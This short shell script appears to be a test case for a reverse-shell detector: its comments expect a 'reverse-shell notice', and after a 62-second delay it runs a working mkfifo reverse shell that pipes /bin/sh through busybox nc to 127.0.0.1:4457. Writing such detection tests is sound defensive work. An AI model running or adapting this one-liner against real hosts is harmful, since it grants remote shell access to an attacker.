#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: the same where nothing serves, long after the start
# expect: reverse-shell notice
# listen: 127.0.0.1:4457
# needs: busybox
# timeout: 120
# long: yes
sleep 62
mkfifo /tmp/f
/bin/sh </tmp/f 2>&1 | busybox nc 127.0.0.1 4457 >/tmp/f
